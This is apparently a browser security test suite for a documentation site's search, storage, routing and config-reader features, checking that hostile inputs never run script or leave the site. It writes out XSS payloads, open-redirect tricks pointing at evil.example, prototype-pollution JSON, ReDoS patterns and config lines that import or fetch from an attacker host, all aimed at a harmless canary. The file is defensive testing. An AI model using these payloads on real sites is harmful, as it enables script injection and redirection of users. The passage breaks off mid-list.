// Hostile addresses, storage, indexes, answers, history entries, and pasted texts: in a real
// browser, under the policy that hosts send, nothing runs or leads off the site.
import type http from 'node:http';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { Page, Route } from 'playwright-core';
import type { SearchEntry } from '../client/search/entry.ts';
import { closeBrowser, open } from './chromium.ts';
import { ADDRESSES, MARKUP } from './hostile.ts';
import { dumbHost } from './hosts.ts';
import { sample } from './sample.ts';
import { startRemote } from './search-server.ts';
import { answers, hydrateIsland, serveSite, storing, until } from './served.ts';
import { siteWith } from './sites.ts';

/**
 * Number of inputs per sink. A normal run tries part of the long lists, the long run all of them.
 */
const tried = new Map<string, number>();
const count = (sink: string, inputs: number): void =>
  void tried.set(sink, (tried.get(sink) ?? 0) + inputs);

/** Names that mean something to a script of the site or to the browser. */
const NAMES = [
  'RSPRESS_THEME',
  'MODERN_THEME',
  'trustedTypes',
  'CSS',
  'Highlight',
  'requestIdleCallback',
  'search-option-0',
  'search-path-0',
  'search-group-0',
  'localStorage',
  'location',
  'history',
  'navigator',
  'document',
  'documentElement',
  'body',
  'head',
  'constructor',
  '__proto__',
  'toString',
  'canary',
  'defaultView',
  'onerror',
] as const;

/** Two pages: one describes an option of the group `output`, the other has the names as ids. */
const option = (lang: string): string =>
  `---\noption: output.wick\ntype: "boolean | { oil?: string }"\ndefault: "false"\ndescription: ${lang} wick.\n---\n\n# output.wick\n\n## oil {#oil}\n\n- **Type:** \`string\`\n`;
const named = (lang: string): string =>
  `---\ndescription: ${lang} names.\n---\n\n# Names\n\n${NAMES.map(name => (/^search-|^__/.test(name) ? `A <a id="${name}" class="search-dialog search-unmark" href="https://evil.example/">row</a>.` : `## ${name} {#${name}}\n\nquokka`)).join('\n\n')}\n`;
const content = siteWith(
  Object.fromEntries(
    ['en', 'zh'].flatMap(lang => [
      [`${lang}/config/wick.md`, option(lang)],
      [
        `${lang}/guide/usage.md`,
        `---\ndescription: ${lang} usage.\n---\n\n# Usage\n\n<ConfigReader />\n`,
      ],
      [`${lang}/guide/names.md`, named(lang)],
    ]),
  ),
);
const site = await serveSite({ content });

/**
 * Lists what a document must not contain: code, frames, addresses of other schemes or of the
 * attacker, and changed prototypes.
 */
const INSPECTION = `(() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    const tag = element.localName;
    if (['iframe', 'object', 'embed', 'base', 'form', 'frame', 'style', 'portal'].includes(tag)) found.push('<' + tag + '>');
    if (tag === 'script' && element.type !== 'application/ld+json' && new URL(element.src || 'data:,').origin !== location.origin) found.push('<script>');
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || name === 'srcdoc') found.push('<' + tag + ' ' + name + '>');
      if (!['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcset', 'poster', 'ping'].includes(name)) continue;
      if (!URL.canParse(value, document.baseURI)) { found.push('<' + tag + ' ' + name + '="' + value + '">'); continue; }
      const { protocol, hostname } = new URL(value, document.baseURI);
      const isPicture = tag === 'img' && value.startsWith('data:image/');
      if (!['http:', 'https:', 'mailto:', 'tel:'].includes(protocol) && !isPicture) found.push('<' + tag + ' ' + name + '="' + value + '">');
      if (hostname.endsWith('evil.example') && !element.closest('.prose')) found.push('<' + tag + ' ' + name + '="' + value + '">');
    }
  }
  if (Object.keys(Object.prototype).length > 0 || {}.polluted !== undefined || [].polluted !== undefined) found.push('a prototype');
  return found;
})()`;

/** What the console messages of the guard begin with. */
const TOLD = 'told: ';
/** Page script that runs in every document before any script of the site. */
const GUARD = `
  globalThis.tell = what => console.debug('${TOLD}' + what);
  globalThis.canary = () => tell('the canary has run');
  document.addEventListener('securitypolicyviolation', event => tell('violation of ' + event.violatedDirective + ' by ' + event.blockedURI));
  const { fetch } = globalThis;
  globalThis.asked = globalThis.asking = 0;
  globalThis.fetch = (...request) => {
    asked++;
    asking++;
    const answer = fetch(...request);
    // By then, whatever follows from the answer, such as the next request, has started.
    const done = () => setTimeout(() => asking--, 60);
    answer.then(done, done);
    return answer;
  };
`;

interface Watched {
  page: Page;
  /**
   * Fails if a script ran or threw, the policy was broken, a request, a page, or a window led
   * elsewhere, or the document contains anything forbidden.
   */
  calm(input: string): Promise<void>;
  /** Checks that there is a heading, the theme changes, and the search opens and closes. */
  works(input: string): Promise<void>;
  go(path: string): Promise<void>;
  close(): Promise<void>;
}

interface WatchOptions {
  url?: string;
  /** Other origins that the page may send requests to. */
  friends?: string[];
  stored?: Record<string, string>;
  locale?: string;
}

async function watch(
  path: string,
  {
    url = site.url,
    friends = [],
    stored = { 'rspress-visited': '1' },
    locale = 'en-US',
  }: WatchOptions = {},
): Promise<Watched> {
  const told: string[] = [];
  const isOwn = (address: string): boolean =>
    [url, ...friends].some(origin => address.startsWith(`${origin}/`)) ||
    /^(?:data:image\/|about:blank$)/.test(address);
  const { page, faults, close } = await open({
    viewport: { width: 1280, height: 800 },
    locale,
    again: true,
    reducedMotion: 'reduce',
    script: `${GUARD} ${storing(stored)}`,
  });
  page.on('console', message => {
    if (message.text().startsWith(TOLD)) told.push(message.text().slice(TOLD.length));
  });
  page.on('dialog', dialog => {
    told.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', request => void (isOwn(request.url()) || told.push(`asked ${request.url()}`)));
  page.on(
    'framenavigated',
    frame => void (isOwn(frame.url()) || told.push(`went to ${frame.url()}`)),
  );
  page.on('popup', other => void told.push(`opened ${other.url()}`));
  const go = async (to: string): Promise<void> => {
    await page.goto(url + to, { waitUntil: 'load' });
    await answers(page);
  };
  const isDark = "document.documentElement.classList.contains('dark')";
  const watched: Watched = {
    page,
    go,
    async calm(input) {
      const found = (await page.evaluate(INSPECTION)) as string[];
      assert.equal(
        [...told, ...found, ...faults.filter(fault => fault.startsWith('error:'))],
        [],
        input.slice(0, 500),
      );
    },
    async works(input) {
      assert.ok((await page.locator('h1').first().innerText()).length > 0, input.slice(0, 500));
      for (const _ of ['and', 'back']) {
        const before = await page.evaluate(isDark);
        await page.evaluate("document.querySelector('[data-flip]').click()");
        assert.is(await page.evaluate(isDark), !before, `the theme stays: ${input.slice(0, 500)}`);
      }
      await openSearch(page);
      await watched.calm(input);
      await page.keyboard.press('Escape');
      await until(
        page,
        "!document.querySelector('dialog.search-dialog[open]')",
        `the search closes: ${input.slice(0, 500)}`,
      );
    },
    close,
  };
  await go(path);
  return watched;
}

async function openSearch(page: Page): Promise<void> {
  await page.keyboard.press('Control+k');
  await page.waitForSelector('dialog.search-dialog[open] input');
}

/** Enters a query and waits for results or for the note that there are none. */
async function ask(page: Page, query: string): Promise<void> {
  await page.fill('#search-input', '');
  await page.fill('#search-input', query);
  await until(
    page,
    "document.querySelector('[id^=search-option], .search-note')",
    `an answer to ${query.slice(0, 200)}`,
  );
}

const HUGE = 'x'.repeat(100_000);
/** Texts for places that contain an address or part of one. */
const TEXTS = [
  ...MARKUP,
  ...ADDRESSES,
  '//evil.example',
  '/\\evil.example',
  'https://evil.example/',
  '%',
  '%E0%A4%A',
  '%00',
  '__proto__',
  'constructor',
  '../../..',
  '"\'`',
  '${canary()}',
  '{{canary()}}',
  'x'.repeat(4000),
];
const encoded = TEXTS.map(encodeURIComponent);

test('query strings: the switches, unknown names, and what links keep', async () => {
  const names = ['navbar', 'sidebar', 'outline', 'footer', 'globalUIComponents', '__proto__'];
  const watched = await watch('/guide/widgets');
  const starts = [...encoded.keys()].filter(at => at % names.length === 0);
  for (const at of sample(starts, 2)) {
    const parts = names.map((name, each) => `${name}=${encoded[(at + each) % encoded.length]}`);
    // The text is also added without escaping, as a link elsewhere may contain it.
    const query = `?${parts.join('&')}&${TEXTS[at]!.replace(/[#%\n\t]/g, '').slice(0, 2000)}`;
    await watched.go(`/guide/widgets${query}`);
    assert.is(await watched.page.evaluate('document.documentElement.dataset.off'), '', query);
    await watched.page.evaluate(
      "document.querySelector('a[data-carry]').dispatchEvent(new PointerEvent('pointerover', { bubbles: true }))",
    );
    const href = (await watched.page.getAttribute('a[data-carry]', 'href'))!;
    const to = new URL(href, watched.page.url());
    assert.is(to.origin, new URL(watched.page.url()).origin);
    assert.match(to.pathname + to.search, /^\/zh\/guide\/widgets\?navbar=/);
    await watched.calm(query);
  }
  await watched.works('queries');
  // The switches must not affect the next page.
  await watched.page.evaluate('document.querySelector(\'#Sidebar a[href="/guide/last"]\').click()');
  await until(watched.page, "document.querySelector('h1').textContent === 'Last'");
  await watched.calm('a way on from there');
  await watched.close();
  count('query strings', TEXTS.length);
});

test('hashes: on arrival, by a link, by the address bar and by steps back', async () => {
  const watched = await watch('/guide/widgets');
  for (const at of sample([...TEXTS.keys()], 2)) {
    await watched.go(`/guide/widgets?${at}#${encoded[at]}`);
    await watched.calm(TEXTS[at]!);
  }
  const left = await watched.page.evaluate(`(async () => {
    const texts = ${JSON.stringify(TEXTS)};
    const turn = () => new Promise(resolve => setTimeout(resolve, 0));
    for (const [at, text] of [...texts, ...texts.slice(0, 16).map(encodeURIComponent)].entries()) {
      location.hash = text;
      await turn();
      const link = document.createElement('a');
      link.href = '#' + text + '-';
      document.querySelector('main').append(link);
      link.click();
      link.remove();
      if (at % 8 > 0) continue;
      history.back();
      await new Promise(resolve => addEventListener('popstate', resolve, { once: true }));
    }
    return texts.length;
  })()`);
  assert.is(left, TEXTS.length);
  assert.is(await watched.page.evaluate('location.pathname'), '/guide/widgets');
  await watched.works('hashes');
  await watched.close();
  count('hashes', TEXTS.length + 16);
});

test('a first visit and a page that has moved take query and hash along, and nowhere else', async () => {
  const host = await dumbHost(site.out);
  const arrived = (path: string): string =>
    `location.pathname.startsWith('${path}') && document.readyState === 'complete'`;
  const tails = Array.from(
    { length: 8 },
    (_, at) => `?${encoded[at + 40]}=//evil.example&${encoded[at]}#${encoded[at + 20]}`,
  );
  for (const url of [site.url, host.url]) {
    const first = await watch('/guide/last', { url, locale: 'zh-CN' });
    const half = tails.filter((_, at) => at % 2 === Number(url === host.url));
    for (const tail of sample(half, 2)) {
      await first.page.evaluate('localStorage.clear()');
      await first.page.goto(`${url}/guide/last.html${tail}`);
      await until(first.page, arrived('/zh/guide/last'));
      assert.ok(first.page.url().includes(tail.slice(0, 20)), first.page.url());
      await first.calm(tail);
    }
    await first.works('a first visit');
    await first.close();
  }
  const moved = await watch('/guide/last.html', { url: host.url });
  for (const tail of sample(tails, 2)) {
    await moved.page.goto(`${host.url}/guide/introduction.html${tail}`);
    await until(moved.page, arrived('/guide/start/'));
    assert.ok(moved.page.url().includes(tail.slice(0, 20)), moved.page.url());
    await moved.calm(tail);
  }
  await moved.works('a page that has moved');
  await moved.close();
  await host.stop();
  count('first visits', 3 * tails.length);
  count('pages that have moved', 3 * tails.length);
});

const KEYS = [
  'rspress-theme-appearance',
  'rspress-visited',
  'rspress-tabs',
  'rspress-recent',
  'rspress-language',
  'rspress-probe',
];
/**
 * What a storage may contain: markup, JSON of other shapes, broken JSON, prototype names, too much.
 */
const STORED = [
  ...MARKUP.slice(0, 4),
  ...ADDRESSES.slice(0, 3),
  '',
  'null',
  'true',
  '1e999',
  '"dark"',
  '[]',
  '{}',
  '[[[[]]]]',
  '[null,1,{},"  ",["x"]]',
  '{"package-manager":{"toString":1}}',
  '{"package-manager":"<img src=x onerror=canary()>"}',
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  '["__proto__","constructor","__proto__"]',
  JSON.stringify(MARKUP.slice(4, 9)),
  JSON.stringify(ADDRESSES),
  '{"package-manager":',
  '\u0000',
  '\ud800',
  HUGE,
  JSON.stringify([HUGE, HUGE]),
  `${'['.repeat(50_000)}`,
  JSON.stringify(Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`k${at}`, 'x']))),
  JSON.stringify({ 'package-manager': ['pnpm'], os: null }),
];

test('local storage: look, tabs, recent searches, language and the flag of the first visit', async () => {
  const watched = await watch('/guide/widgets');
  const starts = [...STORED.keys()].filter(at => at % 2 === 0);
  const drawn = sample(starts, 2);
  for (const at of drawn) {
    // Each key gets a different value. Over all rounds, every value reaches every third key.
    const values = Object.fromEntries(
      KEYS.map((key, each) => [key, STORED[(at + each * 5) % STORED.length]!]),
    );
    const value = JSON.stringify(values);
    await watched.page.evaluate(
      `for (const [key, value] of Object.entries(${value})) localStorage.setItem(key, value)`,
    );
    await watched.go('/guide/widgets');
    assert.match(
      (await watched.page.getAttribute('html', 'data-appearance'))!,
      /^(?:light|dark|auto)$/,
    );
    // Clicking a tab overwrites the stored value.
    await watched.page.evaluate(
      "document.querySelector('[role=tab][aria-selected=false]').click()",
    );
    if (at % 8 === 0 || at === drawn[0]) await watched.works(value);
    else await watched.calm(value);
    const kept = JSON.parse(
      (await watched.page.evaluate("localStorage.getItem('rspress-tabs')")) as string,
    ) as Record<string, unknown>;
    assert.ok(
      Object.values(kept).every(each => typeof each === 'string'),
      value.slice(0, 200),
    );
  }
  await watched.close();
  count('local storage', (STORED.length / 2) * KEYS.length);
});

test('recent searches are shown as text, no longer than they are kept, and asked again as text', async () => {
  const texts = [...MARKUP.slice(0, 20), HUGE];
  const watched = await watch('/guide/last');
  const starts = [...texts.keys()].filter(at => at % 5 === 0);
  for (const at of sample(starts, 2)) {
    const five = texts.slice(at, at + 5);
    await watched.page.evaluate(
      `localStorage.setItem('rspress-recent', ${JSON.stringify(JSON.stringify([...five, ...five]))})`,
    );
    await watched.go('/guide/last');
    await openSearch(watched.page);
    await watched.page.locator('.search-row-recent').first().waitFor();
    const shown = await watched.page.locator('.search-row-recent').allTextContents();
    assert.equal(
      shown,
      five.map(text => text.slice(0, 80)),
    );
    await watched.page.keyboard.press('Enter');
    await until(watched.page, "document.querySelector('[id^=search-option], .search-note')");
    await watched.calm(five.join());
  }
  await watched.close();
  count('recent searches', texts.length);
});

test('session storage: the words to mark', async () => {
  const now = '@now';
  const path = '/guide/markdown';
  const values = [
    ...STORED,
    { path, words: MARKUP, at: now },
    { path, words: '<b>', at: now },
    { path, words: { length: 1e9 }, at: now },
    { path, words: [null, {}, [], 1, ''], at: now },
    { path, words: ['__proto__', 'constructor', '.*', '(', '\\', '[', '(a+)+$'], at: now },
    { path, words: ['e', 'a', 't'], at: 'x' },
    { path, words: ['e'], at: '@later' },
    { path: 'javascript:canary()', words: ['e'], at: now },
    { path: '//evil.example', words: ['e'], at: now },
    { path: '%', words: ['e'], at: now },
    { path, words: [HUGE], at: now },
    { path, words: Array.from({ length: 50_000 }, (_, at) => `no${at}`), at: now },
    { path, words: Array.from({ length: 20_000 }, () => 'e'), at: now },
    [],
    { path, words: ['İİ', 'ß', 'ﬀ', '的'], at: now },
  ].map(value => (typeof value === 'string' ? value : JSON.stringify(value)));
  const watched = await watch(path);
  await openSearch(watched.page);
  await watched.page.keyboard.press('Escape');
  for (const value of values) {
    const ms = await watched.page.evaluate(`(() => {
      sessionStorage.setItem('rspress-marks', ${JSON.stringify(value)}.replace('"@now"', Date.now()).replace('"@later"', '9e99'));
      const start = performance.now();
      document.dispatchEvent(new CustomEvent('site:content'));
      return performance.now() - start;
    })()`);
    assert.ok((ms as number) < 3000, `${ms as number} ms: ${value.slice(0, 80)}`);
  }
  await watched.calm('marks');
  // A valid entry does mark the words, so the loop above has tested the code that reads entries.
  await watched.page.evaluate(
    `sessionStorage.setItem('rspress-marks', JSON.stringify({ path: '${path}', words: ['the'], at: Date.now() }))`,
  );
  await watched.go(path);
  await watched.page.waitForSelector('.search-unmark');
  await watched.works('marks');
  await watched.close();
  count('words to mark', values.length);
});

test('storage events of another tab run nothing', async () => {
  const watched = await watch('/guide/widgets');
  const context = watched.page.context();
  await watched.page.evaluate("globalThis.heard = 0; addEventListener('storage', () => heard++)");
  const tab = await context.newPage();
  await tab.goto(`${site.url}/icon.svg`);
  const events = 3 * STORED.length;
  await tab.evaluate(
    `for (const value of ${JSON.stringify(STORED)}) for (const key of ['rspress-theme-appearance', 'rspress-tabs', value]) { localStorage.removeItem(key); localStorage.setItem(key, value); }`,
  );
  await until(watched.page, `heard >= ${events}`);
  await tab.evaluate('localStorage.clear()');
  await until(watched.page, "document.documentElement.dataset.appearance === 'auto'");
  await tab.close();
  await watched.calm('storage events');
  await watched.works('storage events');
  await watched.close();
  count('storage events', events);
});

test('the search field: whatever is typed', async () => {
  const queries = [
    ...MARKUP.slice(0, 5),
    ...ADDRESSES.slice(0, 2),
    '__proto__',
    'constructor',
    '.*',
    '(a+)+$',
    '\\[',
    '\ud800',
    'x'.repeat(20_000),
    '的'.repeat(2000),
    'a '.repeat(5000),
    'output.__proto__',
    'constructor.x',
  ];
  const watched = await watch('/guide/last');
  await openSearch(watched.page);
  for (const query of sample(queries, 3)) {
    await watched.page.fill('#search-input', '');
    await watched.page.fill('#search-input', query);
    await until(
      watched.page,
      "document.querySelector('[id^=search-option], [id^=search-path], .search-note')",
      query.slice(0, 100),
    );
    await watched.calm(query);
  }
  await watched.page.keyboard.press('Escape');
  await watched.works('queries');
  await watched.close();
  count('the search field', queries.length);
});

const entry = (text: string, index = 0): SearchEntry => ({
  routePath: `/guide/a${index}`,
  title: `quokka ${text}`,
  content: `quokka ${text} quokka\n\nquokka ${text}\n`,
  toc: [{ text: `quokka ${text}`, id: text, depth: 2, charIndex: 0 }],
  lang: 'en',
  domain: '',
  code: `quokka ${text}`,
  group: text,
});
/**
 * Entries whose address is a trick. Links to the attacker's own domain are like any other link:
 * they lead away only if they are clicked.
 */
const leading = (text: string): unknown[] => [
  { ...entry('x'), routePath: text },
  { ...entry('x'), domain: text, routePath: '' },
  { ...entry('x'), domain: text.slice(0, 2), routePath: text.slice(2) },
];
const TRICKS = [
  '//evil.example/x',
  '/\\evil.example',
  '\\/evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '\t//evil.example',
  '/\n/evil.example',
  ' //evil.example',
  '\\[',
  '//[',
  'https://[',
  'http://a b',
  '///evil.example',
  '/%2f/../\\evil.example',
  'https:evil.example',
  'evil.example\\@x',
];
/** Lists and entries that do not have the specified shape. */
const SHAPES: unknown[] = [
  null,
  1,
  'x',
  {},
  { length: 3 },
  { index: 'default' },
  [null, 1, 'x', [], {}],
  [[[]]],
  [{ routePath: 1, title: 'x' }],
  [{ ...entry('x'), title: { toString: 'x' } }],
  [{ ...entry('x'), toc: { length: 1e9 } }],
  [
    {
      ...entry('x'),
      toc: [
        null,
        1,
        { text: 1, id: 2 },
        { text: 'quokka', id: '"><script>canary()</script>', depth: 'x', charIndex: '1' },
      ],
    },
  ],
  [
    {
      ...entry('x'),
      toc: [
        { text: 'quokka', id: 'a', depth: NaN, charIndex: 1e12 },
        { text: 'quokka b', id: 'b', depth: -1, charIndex: -5 },
        { text: 'c', id: 'c', depth: 1e300, charIndex: 0.5 },
      ],
    },
  ],
  JSON.parse(
    '[{"__proto__": {"polluted": 1, "routePath": "/polluted", "title": "quokka"}, "constructor": {"prototype": {"polluted": 1}}}]',
  ) as unknown,
  [entry('x'), entry('x'), entry('x')],
];

test('the search index: entries with markup and tricks, and files of any other shape; the 404 page reads it too', async () => {
  const hostile = [
    ...MARKUP.map(entry),
    ...[...ADDRESSES, ...TRICKS].flatMap(leading),
    ...[...ADDRESSES, ...TRICKS].map(text => ({
      ...entry('x'),
      routePath: `${text}/guide/quokka`,
    })),
  ];
  const lists = SHAPES.filter(shape => Array.isArray(shape)).flat();
  const bodies = [
    JSON.stringify(hostile),
    JSON.stringify([...(lists as unknown[]), entry('x')]),
    'null',
    '{"length":3}',
    '',
    '<!doctype html><script>canary()</script>',
    '[{"routePath":',
    JSON.stringify(Array.from({ length: 3000 }, (_, index) => entry(`${index}`, index))),
  ];
  const watched = await watch('/guide/last');
  let [body] = bodies;
  let asked = 0;
  await watched.page.route('**/search_index.*', async (route: Route) => {
    asked++;
    await route.fulfill({ contentType: 'application/json', body });
  });
  const tried = [bodies[0]!, ...sample(bodies.slice(1), 2)];
  for (body of tried) {
    await watched.go('/guide/quokka');
    await openSearch(watched.page);
    await ask(watched.page, 'quokka');
    await watched.calm(body);
    if (body !== bodies[0]) continue;
    assert.ok((await watched.page.locator('[id^=search-option]').count()) > 5);
    await watched.page.keyboard.press('Enter');
    await until(
      watched.page,
      "location.pathname !== '/guide/quokka' && !document.querySelector('dialog.search-dialog[open]')",
    );
    await found(watched.page);
    await watched.calm('the first result of it');
  }
  await watched.close();
  // Each time, the 404 page reads the index, and so does the search worker.
  assert.ok(asked >= 2 * tried.length, `${asked} times asked`);
  count('the search index', hostile.length + lists.length + bodies.length);
});

test('answers of a remote search run nothing', async () => {
  const parts = [...MARKUP, ...ADDRESSES].map((text, at) => ({
    index: `${at} ${text}`,
    hits: [entry(text)],
  }));
  const tricks = [...ADDRESSES, ...TRICKS].flatMap(text => [
    { index: 'default', hits: leading(text) },
    { index: text, hits: leading(text) },
  ]);
  const marked = [
    { start: 0, length: 1e9 },
    { start: -1, length: 2 },
    { start: 0.5, length: NaN },
    null,
    '<b>',
  ];
  const lists: unknown[] = [
    ...Array.from({ length: 4 }, (_, at) => parts.slice(at * 17, at * 17 + 17)),
    ...Array.from({ length: 4 }, (_, at) => [
      { index: 'default', hits: MARKUP.slice(at * 7, at * 7 + 7).map(entry) },
    ]),
    ...tricks.map(part => [part]).filter((_, at) => at % 5 === 0),
    tricks,
    ...SHAPES.map(shape => [{ index: 'default', hits: shape }]),
    ...SHAPES.slice(0, 6),
    [
      {
        index: 'default',
        hits: [
          {
            ...entry('no'),
            title: 'no',
            content: 'no',
            toc: [],
            code: '',
            _matchesPosition: { content: marked },
          },
        ],
      },
    ],
    Array.from({ length: 3000 }, (_, at) => ({ index: `i${at}`, hits: [entry('x')] })),
    [{ index: 'default', hits: Array.from({ length: 20_000 }, (_, at) => entry(`${at}`, at)) }],
    Array.from({ length: 50 }, () => ({ index: 'default', hits: [entry('x')] })),
    [
      { index: { toString: 'x' }, hits: [] },
      { index: '__proto__', hits: [entry('x')] },
      { index: 'constructor', hits: [entry('x')] },
    ],
  ];
  const bodies = [
    ...lists.map(list => JSON.stringify(list)),
    '<!doctype html><script>canary()</script>',
    '',
    '[',
    '[{"index":"default","hits":[{"__proto__":{"polluted":1},"routePath":"/a","title":"quokka"}]}]',
  ];
  const misbehave = (keyword: string, response: http.ServerResponse): boolean => {
    response.writeHead(200, {
      'content-type': keyword.length % 2 ? 'application/json' : 'text/html',
      'access-control-allow-origin': '*',
    });
    response.end(bodies[Number(keyword.replace('quokka', ''))] ?? '[]');
    return true;
  };
  const remote = await startRemote({}, misbehave);
  const searching = await serveSite({
    content,
    change: known => ({
      ...known,
      search: { mode: 'remote', apiUrl: remote.url, searchIndexes: ['docs'], indexName: 'docs' },
    }),
  });
  const watched = await watch('/guide/last', {
    url: searching.url,
    friends: [new URL(remote.url).origin],
  });
  await openSearch(watched.page);
  const tried = sample([...bodies.entries()], 5);
  for (const [at, body] of tried) {
    await ask(watched.page, `quokka${at}`);
    const tabs = await watched.page.locator('.search-tabs [role=tab]').count();
    assert.ok(tabs <= 21, `${tabs} tabs`);
    for (let tab = 1; tab < tabs; tab++) {
      await watched.page.evaluate(
        `document.querySelectorAll('.search-tabs [role=tab]')[${tab}].click()`,
      );
      await watched.calm(body);
    }
    await watched.calm(body);
  }
  assert.is(remote.asked.length, tried.length);
  await watched.page.keyboard.press('Escape');
  await watched.works('remote answers');
  await watched.close();
  await searching.stop();
  remote.stop();
  count('answers of a remote search', parts.length + 3 * tricks.length + bodies.length);
});

test('the list of options: paths, types, defaults and pages of any kind', async () => {
  const pages = (page: unknown): unknown => ({
    en: { page, anchor: '"><script>canary()</script>' },
  });
  const list = [
    ...MARKUP.map((text, at) => ({
      path: `output.${at}${text}`,
      type: text,
      default: text,
      pages: pages('/config/wick'),
    })),
    ...[...ADDRESSES, ...TRICKS].map((text, at) => ({
      path: `output.a${at}`,
      type: 'x',
      default: 'y',
      pages: pages(text),
    })),
    null,
    1,
    'output.x',
    { path: 1 },
    { path: 'output.b', pages: null },
    { path: 'output.c', pages: { en: '/x' } },
    { path: 'output.d', pages: pages({}) },
    { path: 'output.__proto__', pages: pages('/x') },
    JSON.parse(
      '{"__proto__": {"path": "output.polluted", "polluted": 1}, "pages": {"__proto__": {"page": "/x"}}}',
    ),
    { path: `output.${HUGE}`, pages: pages('/x') },
    { path: 'output..', pages: pages('/x') },
    { path: 'output.[].<x>', pages: pages('/x') },
  ];
  const bodies = [JSON.stringify(list), 'null', '{}', '"x"', '<!doctype html>', '[[[]]]'];
  for (const body of [bodies[0]!, ...sample(bodies.slice(1), 2)]) {
    const watched = await watch('/guide/usage');
    await watched.page.route('**/options.json', route =>
      route.fulfill({ contentType: 'application/json', body: `{"options":${body}}` }),
    );
    await openSearch(watched.page);
    await watched.page.fill('#search-input', 'output.');
    await until(
      watched.page,
      "document.querySelector('[id^=search-option], [id^=search-path], .search-note')",
    );
    await watched.calm(body);
    await watched.page.keyboard.press('Escape');
    await watched.page.fill(
      '#config-text',
      `export default { output: { ${MARKUP.slice(0, 20)
        .map((text, at) => JSON.stringify(`${at}${text}`))
        .join(': 1, ')}: 1, __proto__: {} } }`,
    );
    await watched.page.click('.config-reader button');
    await until(
      watched.page,
      "document.querySelector('.config-findings') || document.querySelector('#config-status').textContent",
    );
    await watched.works(body);
    await watched.close();
  }
  count('the list of options', list.length + bodies.length);
});

test('a pasted config runs nothing', async () => {
  const deep = (open: string, close: string, times: number): string =>
    `export default ${open.repeat(times)}1${close.repeat(times)}`;
  const texts = [
    `export default {\n${MARKUP.map(text => `${JSON.stringify(text)}: 1, output: { ${JSON.stringify(text)}: ${JSON.stringify(text)}, [${JSON.stringify(text)}]: 1, ...${JSON.stringify(text)} }`).join(',\n')} }`,
    ...MARKUP.slice(0, 3),
    `export default { output: x\`${MARKUP.join(' ').replace(/[`$\\]/g, '')}\` }`,
    'export default { __proto__: { output: { wick: 1 } }, constructor: { prototype: { polluted: 1 } }, ["__proto__"]: { polluted: 1 } }',
    'export default { output: { __proto__: 1, constructor: 2, toString: 3, hasOwnProperty: 4, wick: { __proto__: 1, constructor: 2 } } }',
    'canary(); export default (canary(), { output: { wick: canary() } })',
    'export default (() => { canary(); return { output: { get wick() { return canary(); } } } })()',
    'import("data:text/javascript,canary()"); export default {}',
    'import x from "//evil.example/x.js"; export default { ...x }',
    'fetch("//evil.example"); new Image().src = "//evil.example"; export default {}',
    'const a = { ...a }; export default a',
    'const a = b; const b = a; export default { output: a, ...b }',
    'export default function f() { return f() }',
    '{',
    '}',
    '#!/usr/bin/env node\nexport default {}',
    '\u0000\ud800\u2028',
    'export default { output: { "\\u0000\\ud800": 1 } }',
    '/'.repeat(1000),
    `export default { output: { ${HUGE}: 1 } }`,
    deep('[', ']', 20_000),
    deep('{a:', '}', 20_000),
    deep('(', ')', 20_000),
    deep('...', '', 5000),
    `export default { output: { ${Array.from({ length: 3000 }, (_, at) => `k${at}: 1, ...s${at}`).join(', ')} } }`,
    `${Array.from({ length: 24 }, (_, at) => `const a${at + 1} = { ...a${at}, ...a${at} };`).join('\n')} const a0 = { output: { wik: 1 } }; export default a24`,
    `export default /${'(a+)+'.repeat(100)}$/`,
    'export default { output: { wick: `${`${`${canary()}`}`}` } }',
  ];
  const watched = await watch('/guide/usage');
  const { page } = watched;
  await hydrateIsland(page, 'ConfigReader');
  const read = async (text: string, isThere: string): Promise<number> => {
    await page.fill('#config-text', text);
    const start = performance.now();
    await page.click('.config-reader button');
    await until(page, isThere, text.slice(0, 100));
    return performance.now() - start;
  };
  const clean =
    "document.querySelectorAll('.config-findings tbody tr').length === 1 && document.querySelector('.config-findings tbody').textContent.includes('output.sentinel')";
  for (const text of sample(texts, 3)) {
    await read('export default { output: { sentinel: 1 } }', clean);
    const ms = await read(text, `!(${clean})`);
    assert.ok(ms < 15_000, `${Math.round(ms)} ms: ${text.slice(0, 100)}`);
    await watched.calm(text);
  }
  await watched.works('pasted configs');
  await watched.close();
  count('pasted configs', texts.length + MARKUP.length);
});

/** Waits until a 404 page has redirected, or has nothing left to request. */
async function found(page: Page): Promise<void> {
  await until(
    page,
    `document.readyState === 'complete' && (document.documentElement.dataset.pageType !== '404' || (asked > 0 && asking === 0))`,
  );
}

test('addresses that name another host do not leave the site', async () => {
  const hosts = [
    'evil.example',
    '/evil.example',
    '//evil.example',
    '\\evil.example',
    '/\\evil.example',
    '%2fevil.example',
    '%5c%5cevil.example',
    '%09/evil.example',
    '%0d%0a//evil.example',
    '@evil.example',
    '.evil.example',
    ';//evil.example',
    '%00//evil.example',
    'https://evil.example',
    'javascript:canary()',
    '%252f%252fevil.example',
    '..//evil.example',
    '%2e%2e//evil.example',
    '?//evil.example',
    '%',
    '%E0%A4',
    '%3Cscript%3Ecanary()%3C%2Fscript%3E',
    '<img src=x onerror=canary()>',
    '"onmouseover="canary()',
    'guide/quik-start"><script>canary()</script>',
    `${'a/'.repeat(500)}`,
  ];
  const paths = hosts.flatMap((host, at) =>
    [
      ['/', '/en/'],
      ['/zh/', '/EN/'],
      ['/en', '/zh/en/'],
    ][at % 3]!.map(before => before + host),
  );
  const host = await dumbHost(site.out);
  for (const url of [site.url, host.url]) {
    const watched = await watch(url === host.url ? '/guide/last.html' : '/guide/last', { url });
    const half = paths.filter((_, at) => at % 2 === Number(url === host.url));
    for (const path of sample(half, 3)) {
      await watched.page.goto(url + path, { waitUntil: 'load' });
      await found(watched.page);
      assert.is(new URL(watched.page.url()).origin, url, path);
      await watched.calm(`${url}${path}`);
    }
    await watched.works('odd addresses');
    await watched.close();
  }
  await host.stop();
  count('addresses', paths.length);
});

test('from an address that begins with two slashes: away, back, and on when a new release has come', async () => {
  const watched = await watch('/guide/last');
  const { page } = watched;
  const paths = [
    '//evil.example/a',
    '//evil.example',
    '//evil.example/guide/last',
    '//user@evil.example/',
    '//evil.example:80/',
